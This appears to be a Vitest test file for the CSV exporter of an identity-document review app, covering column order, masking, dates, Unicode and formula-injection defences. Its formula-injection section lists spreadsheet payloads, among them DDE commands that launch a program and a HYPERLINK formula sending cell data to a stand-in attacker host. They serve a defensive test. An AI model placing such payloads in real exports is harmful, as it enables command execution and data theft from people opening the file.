import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import type { z } from 'zod'
import {
  CANONICAL_FIELD_ORDER,
  FIXED_COLUMNS,
  LEADING_COLUMNS,
  columnKey,
  compareColumnKeys,
  fieldColumnKeys,
} from '../../../electron/services/export/columns'
import {
  DEFAULT_CSV_OPTIONS,
  buildCsv,
  isCorrected,
  maskDocumentNumber,
  type CsvOptions,
} from '../../../electron/services/export/csv'
import { needsNeutralising, neutralise } from '../../../electron/services/export/neutralise'
import type { Check, CheckRun } from '../../../shared/checks/types'
import { CsvOptionsSchema } from '../../../shared/export-options'
import { CaseSchema, SCHEMA_VERSION, type Case, type Decision, type Field } from '../../../shared/model'

const field = (key: string, value: string, extra: Partial<Field> = {}): Field => ({
  key,
  side: 'front',
  value,
  ocrValue: value,
  score: 90,
  accepted: null,
  quad: null,
  quadSource: 'original',
  verified: false,
  ...extra,
})
const back = (key: string, value: string, extra: Partial<Field> = {}) =>
  field(key, value, { side: 'back', ...extra })

const image = (originalName: string) => ({
  file: 'front.jpg',
  originalName,
  mime: 'image/jpeg' as const,
  width: 1000,
  height: 630,
  bytes: 1,
  preview: null,
})

/** A case as the store would load it (defaults filled by the schema, so new optional model keys need no edit). */
function aCase(id: string, fields: Field[], extra: Partial<Case> = {}): Case {
  const input: z.input<typeof CaseSchema> = {
    schemaVersion: SCHEMA_VERSION,
    id,
    name: 'front.jpg',
    createdAt: '2026-01-01T00:00:00.000Z',
    updatedAt: '2026-01-01T00:00:00.000Z',
    front: image('front.jpg'),
    back: null,
    issuingCountry: 'KOR',
    idType: 'government_id',
    status: 'recognised',
    provider: 'argos',
    transactionId: 'tx-1',
    documentType: 'ID card',
    error: null,
    fields,
    ocr: {},
    recognition: null,
    supportBody: null,
    history: [],
    decision: null,
    contentHash: null,
  }
  return CaseSchema.parse({ ...input, ...extra })
}

const opts = (o: Partial<CsvOptions> = {}): CsvOptions => ({ ...DEFAULT_CSV_OPTIONS, ...o })

/** Rows of the CSV as a strict RFC 4180 reader sees them (BOM removed first). */
function rows(csv: string, delimiter: ',' | ';' = ','): string[][] {
  const text = csv.startsWith('\uFEFF') ? csv.slice(1) : csv
  return parse(text, { delimiter, relax_quotes: false, relax_column_count: false, bom: false }) as string[][]
}

/** The CSV as objects keyed by header name (the header must have unique names). */
function records(csv: string, delimiter: ',' | ';' = ','): Record<string, string>[] {
  const [header, ...body] = rows(csv, delimiter)
  expect(new Set(header).size).toBe(header!.length)
  return body.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])))
}

const FIXED = [...FIXED_COLUMNS]
const LEADING = [...LEADING_COLUMNS]

const checkRun = (...checks: [string, Check['status']][]): CheckRun => ({
  options: { today: '2026-12-02', minimumAge: 18 },
  at: '2026-12-02T10:00:00.000Z',
  checks: checks.map(([id, status]) => ({
    id,
    status,
    fields: [],
    values: [],
    message: '',
    expected: null,
    fix: null,
    recognizeAs: null,
  })),
})

describe('columns', () => {
  it('starts with the fixed case columns in the documented order', () => {
    expect(FIXED).toEqual([
      'case_id',
      'transaction_id',
      'front_file',
      'back_file',
      'issuing_country',
      'id_type',
      'document_type',
      'provider',
      'decision',
      'decision_reason',
      'reviewer',
      'decided_at',
    ])
  })

  it('orders field keys canonically: the leading keys, the rest alphabetically, then back_ keys alphabetically', () => {
    const fields = [
      back('photo', ''),
      field('zeta', ''),
      field('address', ''),
      back('back_address', ''),
      field('expire_date', ''),
      field('alpha', ''),
      field('authority', ''),
      field('nationality', ''),
      field('name', ''),
      field('issue_date', ''),
      field('birth', ''),
      field('gender', ''),
      field('number', ''),
      field('given_name', ''),
      field('name_chn', ''),
      back('authority', ''),
    ]
    expect(fieldColumnKeys([aCase('case-0001', fields)])).toEqual([
      ...CANONICAL_FIELD_ORDER,
      'alpha',
      'name_chn',
      'zeta',
      'back_address',
      'back_authority',
      'back_photo',
    ])
  })

  it('names a back-side field back_<key> unless it already starts with back_', () => {
    expect(columnKey({ key: 'address', side: 'back' })).toBe('back_address')
    expect(columnKey({ key: 'back_address', side: 'back' })).toBe('back_address')
    expect(columnKey({ key: 'address', side: 'front' })).toBe('address')
  })

  it('puts checks_failed right after the fixed columns: the failing check ids, separated by spaces', () => {
    expect(LEADING).toEqual([...FIXED, 'checks_failed'])
    const failing = aCase('case-0001', [field('number', 'X1')], {
      checks: checkRun(
        ['mrz.digit.number', 'pass'],
        ['mrz.match.number', 'fail'],
        ['holder.age', 'warn'],
        ['doc.expired', 'fail'],
        ['barcode.read', 'skip'],
      ),
    })
    const clean = aCase('case-0002', [field('number', 'X2')], { checks: checkRun(['doc.expired', 'pass']) })
    const unchecked = aCase('case-0003', [field('number', 'X3')])
    const csv = buildCsv([failing, clean, unchecked], opts())
    const [header] = rows(csv)
    expect(header!.indexOf('checks_failed')).toBe(FIXED.length)
    const [a, b, c] = records(csv)
    expect(a!.checks_failed).toBe('mrz.match.number doc.expired')
    expect(b!.checks_failed).toBe('')
    expect(c!.checks_failed).toBe('')
    expect(columnKey({ key: 'checks_failed', side: 'front' })).toBe('field_checks_failed')
  })

  it('never lets a field take a fixed column name', () => {
    expect(columnKey({ key: 'decision', side: 'front' })).toBe('field_decision')
    const [row] = records(
      buildCsv(
        [
          aCase('case-0001', [field('decision', 'approved')], {
            decision: decision({ kind: 'rejected', reason: 'Duplicate submission' }),
          }),
        ],
        opts(),
      ),
    )
    expect(row!.decision).toBe('rejected')
    expect(row!.field_decision).toBe('approved')
  })

  it('sorts by code unit, not by locale', () => {
    expect(['b', 'B', 'a', '_x', 'A'].sort(compareColumnKeys)).toEqual(['A', 'B', '_x', 'a', 'b'])
  })
})

function decision(d: Partial<Decision> = {}): Decision {
  return {
    kind: 'approved',
    reason: null,
    note: '',
    reviewer: 'Kim Jiwoo',
    at: '2026-03-01T10:00:00.000Z',
    checksOverride: null,
    ...d,
  }
}

describe('buildCsv: layout', () => {
  it('writes a BOM by default, CRLF after every record and every cell quoted', () => {
    const csv = buildCsv([aCase('case-0001', [field('name', 'ROSSI'), field('address', '')])], opts())
    expect(csv.startsWith('\uFEFF')).toBe(true)
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    const lines = csv.slice(1).split('\r\n')
    expect(lines.at(-1)).toBe('') // the last record ends with CRLF too
    expect(lines).toHaveLength(3)
    for (const line of lines.slice(0, -1)) {
      expect(line).not.toContain('\n')
      // Every cell, the empty ones included, is "…" and cells are joined by the delimiter.
      expect(line).toMatch(/^"[^"]*"(,"[^"]*")*$/)
    }
    expect(lines[1]).toContain('"ROSSI",""')
  })

  it('leaves the BOM out when asked and uses the semicolon delimiter', () => {
    const csv = buildCsv(
      [aCase('case-0001', [field('name', 'A, B; C')])],
      opts({ bom: false, delimiter: ';' }),
    )
    expect(csv.startsWith('"case_id";"transaction_id";')).toBe(true)
    const [row] = records(csv, ';')
    expect(row!.name).toBe('A, B; C')
  })

  it('writes the header only when there are no cases', () => {
    expect(rows(buildCsv([], opts()))).toEqual([LEADING])
  })

  it('fills the fixed columns from the case and its decision', () => {
    const withBack = aCase('case-0001', [], {
      back: image('scan back.png'),
      front: image('scan front.jpg'),
      decision: decision({
        kind: 'rejected',
        reason: 'Other',
        note: ' photo is a screenshot ',
        at: '2026-03-01T19:30:00+09:00',
      }),
    })
    const pending = aCase('case-0002', [], {
      provider: null,
      transactionId: null,
      issuingCountry: null,
      idType: null,
    })
    const approved = aCase('case-0003', [], { decision: decision({ note: 'fine' }) })
    const [a, b, c] = records(buildCsv([withBack, pending, approved], opts()))
    expect(a).toEqual({
      case_id: 'case-0001',
      transaction_id: 'tx-1',
      front_file: 'scan front.jpg',
      back_file: 'scan back.png',
      issuing_country: 'KOR',
      id_type: 'government_id',
      document_type: 'ID card',
      provider: 'argos',
      decision: 'rejected',
      decision_reason: 'Other: photo is a screenshot',
      reviewer: 'Kim Jiwoo',
      decided_at: '2026-03-01T10:30:00.000Z',
      checks_failed: '',
    })
    expect(b).toMatchObject({ provider: '', transaction_id: '', decision: '', decided_at: '', back_file: '' })
    expect(c).toMatchObject({ decision: 'approved', decision_reason: 'fine' })
  })

  it('writes one row per case, a missing field as an empty cell', () => {
    const csv = buildCsv(
      [
        aCase('case-0001', [field('name', 'ROSSI GIULIA'), field('number', 'CA00000AA')]),
        aCase('case-0002', [field('name', '홍길동'), field('address', 'Via Roma, 1 "A"\nScala B')]),
      ],
      opts(),
    )
    const [header, r1, r2] = rows(csv)
    expect(header!.slice(LEADING.length)).toEqual(['name', 'number', 'address'])
    expect(r1!.slice(LEADING.length)).toEqual(['ROSSI GIULIA', 'CA00000AA', ''])
    expect(r2!.slice(LEADING.length)).toEqual(['홍길동', '', 'Via Roma, 1 "A"\nScala B'])
    expect(csv).toContain('"Via Roma, 1 ""A""\nScala B"')
  })

  it('keeps the header identical when the same fields come in a different order in each case', () => {
    const keys = ['nationality', 'name', 'zz_extra', 'birth', 'number', 'mrz1', 'gender', 'a_extra']
    const shuffled = [
      [7, 1, 3, 0, 6, 2, 5, 4],
      [0, 1, 2, 3, 4, 5, 6, 7],
      [4, 6, 1, 7, 3, 0, 2, 5],
    ].map((order, n) =>
      aCase(
        `case-000${n}`,
        order.map((i) => field(keys[i]!, `v${i}`)),
      ),
    )
    const headers = shuffled.map((c) => rows(buildCsv([c], opts()))[0])
    expect(headers[1]).toEqual(headers[0])
    expect(headers[2]).toEqual(headers[0])
    expect(rows(buildCsv(shuffled, opts()))[0]).toEqual(headers[0])
    expect(rows(buildCsv([...shuffled].reverse(), opts()))[0]).toEqual(headers[0])
    // And each value sits under its own key whatever the order.
    for (const r of records(buildCsv(shuffled, opts()))) {
      keys.forEach((k, i) => expect(r[k]).toBe(`v${i}`))
    }
  })

  it('puts a back-side field under back_<key>, next to the front one of the same key', () => {
    const [header, row] = rows(
      buildCsv([aCase('case-0001', [back('address', 'back addr'), field('address', 'front addr')])], opts()),
    )
    expect(header!.slice(LEADING.length)).toEqual(['address', 'back_address'])
    expect(row!.slice(LEADING.length)).toEqual(['front addr', 'back addr'])
  })

  it('takes the first field with a value when two fields land in one column', () => {
    const [row] = records(
      buildCsv(
        [aCase('case-0001', [field('back_x', ''), back('x', 'from back'), field('back_x', 'late')])],
        opts(),
      ),
    )
    expect(row!.back_x).toBe('from back')
  })
})

describe('buildCsv: options', () => {
  it('adds <key>__ocr, <key>__score and <key>__corrected after each field column', () => {
    const csv = buildCsv(
      [
        aCase('case-0001', [
          field('number', 'M1234567', { ocrValue: 'M1234S67', score: 71.5 }),
          field('name', 'LEE', { score: null }),
          // Added by the reviewer: nothing was read, drawn by hand (corrected even while still empty).
          field('authority', '', { ocrValue: '', quadSource: 'drawn', score: null }),
        ]),
      ],
      opts({ includeOcr: true }),
    )
    const [header, row] = rows(csv)
    expect(header!.slice(LEADING.length)).toEqual([
      'name',
      'name__ocr',
      'name__score',
      'name__corrected',
      'number',
      'number__ocr',
      'number__score',
      'number__corrected',
      'authority',
      'authority__ocr',
      'authority__score',
      'authority__corrected',
    ])
    expect(row!.slice(LEADING.length)).toEqual(
      ['LEE', 'LEE', '', 'false', 'M1234567', 'M1234S67', '71.5', 'true', '', '', '', 'true'].map(String),
    )
  })

  it('keeps header names unique when a field key collides with a derived column', () => {
    const [header] = rows(
      buildCsv(
        [aCase('case-0001', [field('name', 'A'), field('name__ocr', 'B')])],
        opts({ includeOcr: true }),
      ),
    )
    expect(new Set(header).size).toBe(header!.length)
  })

  it('leaves the OCR columns out by default', () => {
    const [header] = rows(buildCsv([aCase('case-0001', [field('name', 'A', { ocrValue: 'B' })])], opts()))
    expect(header!.some((h) => h.includes('__'))).toBe(false)
  })

  it.each([
    ['M12345678', '*****5678'],
    ['CA00000AA', '*****00AA'],
    ['12345', '*2345'],
    ['1234', '****'],
    ['12', '**'],
    ['7', '*'],
    ['', ''],
    ['AB 123-456', '******-456'],
    ['가나다라마바', '**다라마바'],
  ])('masks the document number %j as %j', (input, masked) => {
    expect(maskDocumentNumber(input)).toBe(masked)
  })

  it('masks every document-number key, on both sides and in the OCR column, and the number inside the MRZ', () => {
    const c = aCase('case-0001', [
      field('number', 'M12345678', { ocrValue: 'M12345G78' }),
      field('passport_number', 'P987654321'),
      field('document_number', '0042'),
      field('license_number', '11-22-333333-44'),
      field('id_number', '900101-1234567'),
      back('number', 'B7654321'),
      field('name', 'HONG GILDONG'),
      field('mrz2', 'M12345678<KOR9001011M3001012<<<<<<<<<<<<<<06'),
    ])
    const masked = records(buildCsv([c], opts({ maskDocumentNumbers: true, includeOcr: true })))[0]!
    expect(masked.number).toBe('*****5678')
    expect(masked.number__ocr).toBe('*****5G78')
    expect(masked.passport_number).toBe('******4321')
    expect(masked.document_number).toBe('****')
    expect(masked.license_number).toBe('***********3-44')
    expect(masked.id_number).toBe('**********4567')
    expect(masked.back_number).toBe('****4321')
    expect(masked.name).toBe('HONG GILDONG')
    expect(masked.mrz2).toBe('*****5678<KOR9001011M3001012<<<<<<<<<<<<<<06')
    const plain = records(buildCsv([c], opts({ includeOcr: true })))[0]!
    expect(plain.number).toBe('M12345678')
    expect(plain.mrz2).toBe('M12345678<KOR9001011M3001012<<<<<<<<<<<<<<06')
  })

  it('leaves out every key containing "mrz" when asked', () => {
    const c = aCase('case-0001', [
      field('name', 'A'),
      field('mrz1', 'P<KOR'),
      field('MRZ_line2', 'X'),
      back('mrz', 'Y'),
      field('remrz_extra', 'Z'),
    ])
    const [header] = rows(buildCsv([c], opts({ excludeMrz: true, includeOcr: true })))
    expect(header!.slice(LEADING.length)).toEqual(['name', 'name__ocr', 'name__score', 'name__corrected'])
    const [kept] = rows(buildCsv([c], opts()))
    expect(kept!.slice(LEADING.length)).toEqual(['name', 'MRZ_line2', 'mrz1', 'remrz_extra', 'back_mrz'])
  })

  it('normalises unambiguous dates in date-like columns only, and only when asked', () => {
    const c = aCase('case-0001', [
      field('birth', '31.01.1990', { ocrValue: '31 JAN 1990' }),
      field('issue_date', '01/02/2020'),
      field('expire_date', '20300131'),
      back('registration_date', 'Jan 5, 2021'),
      field('number', '19900131'),
      field('name', '1990.01.31'),
    ])
    const on = records(buildCsv([c], opts({ normaliseDates: true, includeOcr: true })))[0]!
    expect(on).toMatchObject({
      birth: '1990-01-31',
      birth__ocr: '1990-01-31',
      issue_date: '01/02/2020', // ambiguous: kept as written
      expire_date: '2030-01-31',
      back_registration_date: '2021-01-05',
      number: '19900131',
      name: '1990.01.31',
    })
    // The flag compares what was read with what was written, not the normalised forms.
    expect(on.birth__corrected).toBe('true')
    const off = records(buildCsv([c], opts({ normaliseDates: false })))[0]!
    expect(off).toMatchObject({
      birth: '31.01.1990',
      expire_date: '20300131',
      back_registration_date: 'Jan 5, 2021',
    })
  })
})

describe('isCorrected', () => {
  it.each<[Partial<Field>, boolean]>([
    [{ value: 'A', ocrValue: 'A', quadSource: 'original' }, false],
    [{ value: 'B', ocrValue: 'A', quadSource: 'original' }, true],
    [{ value: '', ocrValue: 'A', quadSource: 'original' }, true],
    [{ value: 'A', ocrValue: '', quadSource: 'drawn' }, true],
    [{ value: '', ocrValue: '', quadSource: 'drawn' }, true],
    [{ value: '', ocrValue: '', quadSource: 'none' }, false],
    [{ value: 'A', ocrValue: 'A', quadSource: 'drawn' }, false],
  ])('%j → %s', (f, expected) => {
    expect(isCorrected({ ...field('k', ''), ...f })).toBe(expected)
  })
})

// OWASP CSV injection: payloads a spreadsheet could run, and the breakouts that try to end the quoted cell.
const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("http://x","y")',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '+1',
  '-',
  '=',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
  '=WEBSERVICE("http://x")',
  '\t=1+1',
  '\tplain after a tab',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\0=1+1',
  ' =1+1',
  '   @SUM(1+1)',
  ' \t +1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '=1+1", "=2+2',
]
const BREAKOUTS = ['a","=1+1', 'a;=1+1', 'a,=1+1', 'x"\r\n"=1+1', 'a"";"=1+1', '"=1+1', "'=1+1", 'a\t=1+1']
const SAFE = ['ROSSI GIULIA', '1990-01-31', 'a=b', '홍길동', 'user@example.com', '1+1', '', "O'BRIEN", '(=1)']

describe('formula injection', () => {
  it('has the payload list the issue asks for', () => {
    expect(DANGEROUS.length + BREAKOUTS.length).toBeGreaterThanOrEqual(20)
  })

  it.each(DANGEROUS)('neutralises %j with a leading apostrophe', (payload) => {
    expect(needsNeutralising(payload)).toBe(true)
    expect(neutralise(payload)).toBe(`'${payload}`)
  })

  it.each([...SAFE, ...BREAKOUTS])('leaves %j as it is (no formula start)', (value) => {
    expect(neutralise(value)).toBe(value)
  })

  it.each([',', ';'] as const)(
    'neutralises every cell, file names included, with delimiter %j',
    (delimiter) => {
      const all = [...DANGEROUS, ...BREAKOUTS, ...SAFE]
      const cases = all.map((p, i) =>
        aCase(`case-${String(i).padStart(4, '0')}`, [field('name', p), back('address', p)], {
          front: image(p),
          back: image(`${p}.png`),
          transactionId: p,
          documentType: p,
          decision: decision({ kind: 'rejected', reason: 'Other', note: p, reviewer: p, at: p }),
        }),
      )
      const csv = buildCsv(cases, opts({ delimiter, includeOcr: true }))
      const parsed = records(csv, delimiter)
      expect(parsed).toHaveLength(all.length)
      parsed.forEach((row, i) => {
        const p = all[i]!
        const expected = needsNeutralising(p) ? `'${p}` : p
        expect(row.front_file).toBe(expected)
        expect(row.back_file).toBe(needsNeutralising(`${p}.png`) ? `'${p}.png` : `${p}.png`)
        expect(row.transaction_id).toBe(expected)
        expect(row.document_type).toBe(expected)
        expect(row.reviewer).toBe(expected)
        expect(row.name).toBe(expected)
        expect(row.name__ocr).toBe(expected)
        expect(row.back_address).toBe(expected)
        // No cell of the row, whatever column, may start a formula.
        for (const cell of Object.values(row)) expect(needsNeutralising(cell)).toBe(false)
      })
    },
  )

  it('neutralises header names too (a key from the provider is not guaranteed to be safe)', () => {
    const [header, row] = rows(buildCsv([aCase('case-0001', [field('=cmd', 'x')])], opts()))
    expect(header).toContain("'=cmd")
    expect(row!.at(-1)).toBe('x')
  })

  it('keeps quotes and delimiters inside the cell (doubled quotes, never a new cell)', () => {
    const csv = buildCsv(
      [aCase('case-0001', [field('name', 'a","=1+1'), field('address', 'a;=1+1')])],
      opts(),
    )
    expect(csv).toContain('"a"",""=1+1"')
    const semi = buildCsv([aCase('case-0001', [field('name', 'a;=1+1')])], opts({ delimiter: ';' }))
    expect(semi).toContain(';"a;=1+1"\r\n')
    expect(rows(semi, ';')[1]).toHaveLength(LEADING.length + 1)
  })
})

describe('Unicode', () => {
  const values = [
    '홍길동',
    '서울특별시 강남구 테헤란로 152',
    '王小明',
    '北京市朝阳区建国路88号',
    '山田 太郎',
    'José Müller-Lüdenscheidt',
    'Ærøskøbing, Øster Søgade',
    'Ștefan Łukasiewicz Ñúñez',
    'Zoë 😀',
    '👩‍👩‍👧‍👦 🇰🇷 🇳🇿',
    'محمد علي',
    'e\u0301 (combining)',
  ]

  it.each([',', ';'] as const)(
    'round-trips Hangul, Chinese, accents and emoji (delimiter %j)',
    (delimiter) => {
      const csv = buildCsv(
        [
          aCase(
            'case-0001',
            values.map((v, i) => field(`f${String(i).padStart(2, '0')}`, v)),
            { front: image(values[0]!) },
          ),
        ],
        opts({ delimiter }),
      )
      // Written as UTF-8 and read back as UTF-8.
      const bytes = Buffer.from(csv, 'utf8')
      const [row] = records(bytes.toString('utf8'), delimiter)
      expect(values.map((_, i) => row![`f${String(i).padStart(2, '0')}`])).toEqual(values)
      expect(row!.front_file).toBe(values[0])
    },
  )
})

describe('CsvOptionsSchema', () => {
  it('accepts the default and rejects a bad delimiter or an unknown option', () => {
    expect(CsvOptionsSchema.parse(DEFAULT_CSV_OPTIONS)).toEqual(DEFAULT_CSV_OPTIONS)
    expect(DEFAULT_CSV_OPTIONS).toMatchObject({ delimiter: ',', bom: true })
    expect(CsvOptionsSchema.safeParse({ ...DEFAULT_CSV_OPTIONS, delimiter: '\t' }).success).toBe(false)
    expect(CsvOptionsSchema.safeParse({ ...DEFAULT_CSV_OPTIONS, extra: true }).success).toBe(false)
    expect(CsvOptionsSchema.safeParse({ delimiter: ';' }).success).toBe(false)
  })
})
